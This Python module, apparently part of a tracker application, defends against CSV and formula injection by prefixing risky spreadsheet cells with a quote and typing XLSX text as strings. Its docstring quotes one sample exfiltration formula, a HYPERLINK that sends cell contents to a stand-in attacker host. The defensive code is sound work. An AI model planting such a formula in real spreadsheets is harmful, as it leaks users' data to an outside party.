"""Text for spreadsheets that a spreadsheet cannot run (CSV and formula injection).

A title typed into an agreement or a meeting, such as
`=HYPERLINK("https://evil.example/?leak="&A1,"Klik")`, must reach Excel or
LibreOffice as text, never as a formula. Every CSV the tracker writes goes
through `writer`, which neutralises a cell the OWASP way (a leading `'` before
`=`, `+`, `-`, `@`, tab or carriage return); `read_back` undoes exactly that on
upload, so a downloaded file uploads unchanged. XLSX cells holding text are
typed as strings, so nothing in them is a formula.
"""

from __future__ import annotations

import csv
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """Text that a spreadsheet would run gets a leading `'` (so does text that
    already starts with quotes before such a character, so `read_back` is exact)."""
    if isinstance(value, str) and value.lstrip("'").startswith(TRIGGERS):
        return "'" + value
    return value


def read_back(value: str) -> str:
    """The text before `neutralise` (a cell we wrote, or one typed by hand)."""
    if value.startswith("'") and value.lstrip("'").startswith(TRIGGERS):
        return value[1:]
    return value


class _SafeWriter:
    def __init__(self, out: Any) -> None:
        self._writer = csv.writer(out, lineterminator="\r\n")

    def writerow(self, row: list[Any]) -> None:
        self._writer.writerow([neutralise(cell) for cell in row])


def writer(out: Any) -> _SafeWriter:
    """A csv writer (Excel dialect, CRLF) whose text cells cannot be formulas."""
    return _SafeWriter(out)


def xlsx_row(sheet: Any, values: list[Any]) -> list[Any]:
    """Cells for a write-only openpyxl sheet: text always typed as a string."""
    from openpyxl.cell import WriteOnlyCell

    cells = []
    for value in values:
        cell = WriteOnlyCell(sheet, value=value)
        if isinstance(value, str):
            cell.data_type = "s"
        cells.append(cell)
    return cells
